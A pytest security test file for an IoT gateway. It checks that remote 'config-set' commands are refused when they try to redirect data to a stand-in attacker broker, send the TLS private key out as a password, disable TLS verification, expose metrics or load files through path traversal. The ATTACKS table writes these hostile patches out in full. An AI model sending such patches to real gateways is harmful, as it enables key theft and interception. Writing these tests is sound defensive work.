"""A hostile platform: someone who may publish on ``<prefix>/<gw>/cmd`` tries ``config-set``.

The gateway runs as its own process (``python -m gateway run``) against a real mosquitto that
requires TLS with client certificates, as a deployed one does. Every attempt to move the data,
drop TLS, point a path at a secret or at the config, open the metrics listener to the network or
read an arbitrary file as a profile is refused with ``local_only``, naming every key; no file
changes (hashed before and after), and the gateway keeps publishing to the original broker.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import shutil
import ssl
import tomllib
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from importlib import resources
from pathlib import Path
from typing import Any

import aiomqtt
import pytest

from drivers.profile import load_profile
from gateway.config.toml_write import dumps
from simulator.modbus_server import DeviceSpec, ModbusSimulator
from tests.support.gateway_rig import running_gateway
from tests.support.mosquitto import Mosquitto
from tests.support.pki import make_pki, tls_mosquitto

GW = "hostile-gw"
PREFIX = "streetgate"
ATTACKER = "203.0.113.66"  # TEST-NET-3: never reached


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_pki(tmp_path_factory.mktemp("pki"), client_cn=GW)


@pytest.fixture
def tls_broker(tmp_path: Path, pki: Path) -> Iterator[Mosquitto]:
    (tmp_path / "broker").mkdir()
    broker = tls_mosquitto(tmp_path / "broker", pki)
    broker.start()
    try:
        yield broker
    finally:
        broker.stop()


@dataclass
class Site:
    """A gateway's config directory as ``streetgate init`` lays it out."""

    directory: Path
    config: Path
    key: Path  # the TLS client key: the secret an attacker wants
    password: Path
    elsewhere: Path  # a valid profile file outside the config directory

    def hashes(self) -> dict[str, str]:
        """Every file the gateway does not write in normal running, by relative path."""
        runtime = ("outbox.db", "gateway.log")  # the outbox and its companions change
        return {
            str(p.relative_to(self.directory)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(self.directory.rglob("*"))
            if p.is_file() and not p.name.startswith(runtime)
        }


def make_site(tmp_path: Path, broker: Mosquitto, pki: Path, sim: ModbusSimulator) -> Site:
    directory = tmp_path / "etc"
    (directory / "tls").mkdir(parents=True)
    for name in ("ca.crt", "client.crt", "client.key"):
        shutil.copy(pki / name, directory / "tls" / name)
    key = directory / "tls" / "client.key"
    key.chmod(0o600)
    password = directory / "mqtt-password"
    password.write_text("s3cret\n")
    password.chmod(0o600)
    elsewhere = tmp_path / "elsewhere" / "meter.toml"
    elsewhere.parent.mkdir()
    shipped = resources.files("drivers") / "profiles" / "xy-md02.toml"
    elsewhere.write_text(shipped.read_text("utf-8"), "utf-8")
    device = sim["climate-1"].gateway_config(timeout=0.5, interval=1).model_dump(mode="json")
    document = {
        "gateway_id": GW,
        "mqtt": {
            "host": broker.host,
            "port": broker.port,
            "username": GW,
            "password_file": "mqtt-password",
            "reconnect_min": "100ms",
            "reconnect_max": "1s",
            "tls": {
                "ca_file": "tls/ca.crt",
                "cert_file": "tls/client.crt",
                "key_file": "tls/client.key",
            },
        },
        "outbox": {"path": "outbox.db", "commit_interval": "100ms"},
        "devices": [device | {"profile": "xy-md02"}],
    }
    config = directory / "gateway.toml"
    config.write_text(dumps(document), "utf-8")
    return Site(directory, config, key, password, elsewhere)


@dataclass
class Platform:
    """The attacker's seat: a client with the command right, reading replies and readings."""

    client: aiomqtt.Client
    replies: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    readings: int = 0
    changed: asyncio.Event = field(default_factory=asyncio.Event)

    async def listen(self) -> None:
        async for message in self.client.messages:
            assert isinstance(message.payload, bytes)
            if message.topic.matches(f"{PREFIX}/{GW}/readings"):
                self.readings += 1
            elif message.topic.matches(f"{PREFIX}/{GW}/reply"):
                reply = json.loads(message.payload)
                self.replies.setdefault(str(reply["id"]), []).append(reply)
            self.changed.set()

    async def wait(self, condition: Any, timeout: float = 20) -> None:
        async with asyncio.timeout(timeout):
            while not condition():
                self.changed.clear()
                await self.changed.wait()

    async def call(self, command: str, args: dict[str, Any] | None = None) -> dict[str, Any]:
        command_id = uuid.uuid4().hex
        body: dict[str, Any] = {"id": command_id, "command": command}
        if args is not None:
            body["args"] = args
        await self.client.publish(f"{PREFIX}/{GW}/cmd", json.dumps(body).encode(), qos=1)
        await self.wait(lambda: command_id in self.replies)
        return self.replies[command_id][0]


@asynccontextmanager
async def platform(broker: Mosquitto, pki: Path) -> AsyncIterator[Platform]:
    context = ssl.create_default_context(cafile=str(pki / "ca.crt"))
    context.load_cert_chain(str(pki / "client.crt"), str(pki / "client.key"))
    async with aiomqtt.Client(
        broker.host, broker.port, tls_context=context, identifier="platform"
    ) as client:
        plat = Platform(client)
        await client.subscribe(f"{PREFIX}/{GW}/reply", qos=1)
        await client.subscribe(f"{PREFIX}/{GW}/readings", qos=1)
        async with asyncio.TaskGroup() as tg:
            listener = tg.create_task(plat.listen(), name="test:platform")
            try:
                yield plat
            finally:
                listener.cancel()


#: attack name -> (args of config-set, given the site and the device entry on disk; the keys
#: the refusal must name)
ATTACKS: dict[str, tuple[Any, set[str]]] = {
    # The first finding: the private key sent as the password to the attacker's broker.
    "broker-tls-and-password": (
        lambda site, device: {
            "patch": {
                "mqtt": {
                    "host": ATTACKER,
                    "port": 1884,
                    "tls": None,
                    "password_file": "tls/client.key",
                }
            }
        },
        {"mqtt.host", "mqtt.port", "mqtt.tls", "mqtt.password_file"},
    ),
    "password-file-to-key": (
        lambda site, device: {"patch": {"mqtt": {"password_file": str(site.key)}}},
        {"mqtt.password_file"},
    ),
    "tls-deleted": (lambda site, device: {"patch": {"mqtt": {"tls": None}}}, {"mqtt.tls"}),
    "tls-verification-off": (
        lambda site, device: {"patch": {"mqtt": {"tls": {"insecure_skip_verify": True}}}},
        {"mqtt.tls.insecure_skip_verify"},
    ),
    "mqtt-table-deleted": (
        lambda site, device: {"patch": {"mqtt": None}},
        {
            "mqtt.host",
            "mqtt.port",
            "mqtt.username",
            "mqtt.password_file",
            "mqtt.reconnect_min",
            "mqtt.reconnect_max",
            "mqtt.tls",
        },
    ),
    "whole-config-other-broker": (
        lambda site, device: {
            "config": {
                "gateway_id": GW,
                "mqtt": {"host": ATTACKER, "port": 1883},
                "outbox": {"path": "outbox.db", "commit_interval": "100ms"},
                "devices": [device],
            }
        },
        {
            "mqtt.host",
            "mqtt.port",
            "mqtt.username",
            "mqtt.password_file",
            "mqtt.reconnect_min",
            "mqtt.reconnect_max",
            "mqtt.tls",
        },
    ),
    # Failover (issue 16): a list naming the attacker's broker, in place of the site's or
    # beside it (a spare the gateway would move to when the site's broker is away).
    "broker-list-instead": (
        lambda site, device: {
            "patch": {"mqtt": {"host": None, "port": None, "brokers": [f"{ATTACKER}:1883"]}}
        },
        {"mqtt.host", "mqtt.port", "mqtt.brokers"},
    ),
    "broker-list-spare": (
        lambda site, device: {
            "patch": {"mqtt": {"brokers": [{"host": ATTACKER, "port": 8883}]}},
        },
        {"mqtt.brokers"},
    ),
    "session-expiry": (
        lambda site, device: {"patch": {"mqtt": {"protocol": "5", "session_expiry": "7d"}}},
        {"mqtt.protocol", "mqtt.session_expiry"},
    ),
    "topic-prefix": (
        lambda site, device: {"patch": {"mqtt": {"topic_prefix": "elsewhere"}}},
        {"mqtt.topic_prefix"},
    ),
    "outbox-path-to-key": (
        lambda site, device: {"patch": {"outbox": {"path": str(site.key)}}},
        {"outbox.path"},
    ),
    "outbox-path-to-config": (
        lambda site, device: {"patch": {"outbox": {"path": "gateway.toml"}}},
        {"outbox.path"},
    ),
    "outbox-synchronous-off": (
        lambda site, device: {"patch": {"outbox": {"synchronous": "off"}}},
        {"outbox.synchronous"},
    ),
    "metrics-on-all-interfaces": (
        lambda site, device: {
            "patch": {"metrics": {"listen": "0.0.0.0:9464", "allow_remote": True}}
        },
        {"metrics.listen", "metrics.allow_remote"},
    ),
    "profile-dev-zero": (
        lambda site, device: {"patch": {"devices": [device | {"profile": "/dev/zero"}]}},
        {"devices[0].profile"},
    ),
    "profile-outside-config-dir": (
        lambda site, device: {"patch": {"devices": [device | {"profile": str(site.elsewhere)}]}},
        {"devices[0].profile"},
    ),
    # A deadband as wide as any value with a max_silence of a month: the device would go
    # quiet while it seems healthy. A remote max_silence is bounded to a day.
    "deadband-silences-a-device": (
        lambda site, device: {
            "patch": {
                "devices": [device | {"deadbands": {"*": {"deadband": 1e12, "max_silence": "30d"}}}]
            }
        },
        {"devices[0].deadbands.*.max_silence"},
    ),
    "deadband-in-an-inline-profile": (
        lambda site, device: {
            "patch": {
                "devices": [
                    device
                    | {
                        "profile": load_profile("xy-md02").model_dump(
                            mode="json", exclude_none=True
                        )
                        | {"defaults": {"deadband": 1e12, "max_silence": 10**9}}
                    }
                ]
            }
        },
        {"devices[0].profile.defaults.max_silence"},
    ),
    "profile-dot-dot": (
        lambda site, device: {
            "patch": {"devices": [device | {"profile": "../elsewhere/meter.toml"}]}
        },
        {"devices[0].profile"},
    ),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_local_only_change_is_refused_and_touches_nothing(
    attack: str, tmp_path: Path, tls_broker: Mosquitto, pki: Path
) -> None:
    make_args, refused_keys = ATTACKS[attack]

    async def scenario() -> None:
        spec = DeviceSpec("climate-1", load_profile("xy-md02"))
        async with ModbusSimulator([spec]) as sim:
            site = make_site(tmp_path, tls_broker, pki, sim)
            before = site.hashes()
            async with platform(tls_broker, pki) as plat, running_gateway(site.config) as proc:
                await plat.wait(lambda: plat.readings >= 1)  # running, over TLS
                pong = await plat.call("ping")
                on_disk = site.config.read_text("utf-8")
                device = json.loads(json.dumps(_devices(on_disk)[0]))

                async with asyncio.timeout(10):  # refused quickly: /dev/zero is never read
                    reply = await plat.call("config-set", make_args(site, device))

                assert reply["status"] == "error", reply
                error = reply["error"]
                assert error["code"] == "local_only", error
                assert {i["key"] for i in error["issues"]} == refused_keys, error
                for key in refused_keys:
                    assert key in error["message"]
                assert "change it on site (CLI, file or environment)" in error["message"]

                # It keeps running as it was, publishing to this broker over TLS.
                seen = plat.readings
                await plat.wait(lambda: plat.readings >= seen + 2)
                again = await plat.call("ping")
                assert again["status"] == "ok"
                assert again["result"]["uptime_s"] > pong["result"]["uptime_s"]  # no restart
                assert proc.returncode is None
            # Nothing written: no file changed, none added (no .previous, no pending marker).
            assert site.hashes() == before

    asyncio.run(_bounded(scenario()))


def test_allowed_changes_still_apply(tmp_path: Path, tls_broker: Mosquitto, pki: Path) -> None:
    """Fleet operations stay remote: a device's interval, deadbands within bounds and the payload
    format, in one patch
    that also restates a local-only key with the value on disk (not a change)."""

    async def scenario() -> None:
        spec = DeviceSpec("climate-1", load_profile("xy-md02"))
        async with ModbusSimulator([spec]) as sim:
            site = make_site(tmp_path, tls_broker, pki, sim)
            async with platform(tls_broker, pki) as plat, running_gateway(site.config):
                await plat.wait(lambda: plat.readings >= 1)
                device = _devices(site.config.read_text("utf-8"))[0]
                patch = {
                    "mqtt": {"payload_format": "senml", "host": tls_broker.host},
                    "devices": [
                        device
                        | {
                            "interval": "2s",
                            "deadbands": {"*": {"deadband": 0.5, "max_silence": "24h"}},
                        }
                    ],
                }
                reply = await plat.call("config-set", {"patch": patch, "confirm_timeout": 20})
                assert reply["status"] == "accepted", reply
                command_id = reply["id"]
                await plat.wait(lambda: len(plat.replies[command_id]) >= 2)
                assert plat.replies[command_id][1]["status"] == "applied"
            text = site.config.read_text("utf-8")
            assert 'payload_format = "senml"' in text
            assert 'interval = "2s"' in text
            assert 'max_silence = "24h"' in text

    asyncio.run(_bounded(scenario()))


def _devices(text: str) -> list[dict[str, Any]]:
    devices: list[dict[str, Any]] = tomllib.loads(text)["devices"]
    return devices


async def _bounded(scenario: Any, seconds: float = 60) -> None:
    async with asyncio.timeout(seconds):
        await scenario
